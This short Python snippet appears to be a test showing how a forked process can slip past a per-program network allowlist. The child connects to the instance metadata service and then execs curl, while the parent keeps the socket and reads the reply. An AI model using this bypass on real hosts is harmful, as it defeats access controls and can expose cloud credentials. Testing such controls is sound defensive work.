# A child connects without waiting and becomes an allowed program; whoever started it holds the socket and reads the answer.
sock = socket.socket()
into, out = os.pipe()
child = os.fork()
if child == 0:
    sock.setblocking(False)
    assert sock.connect_ex(IMDS) == errno.EINPROGRESS
    os.dup2(into, 0)
    select.select([], [sock], [], 10)
    sock.send(request('exec'))
    os.execv('/usr/bin/curl', ['curl', '--config', '-'])
while os.path.basename(os.readlink(f'/proc/{child}/exe')) != 'curl':
    time.sleep(0.01)
tell(child=child)
proceed()
tell(status=status(sock))
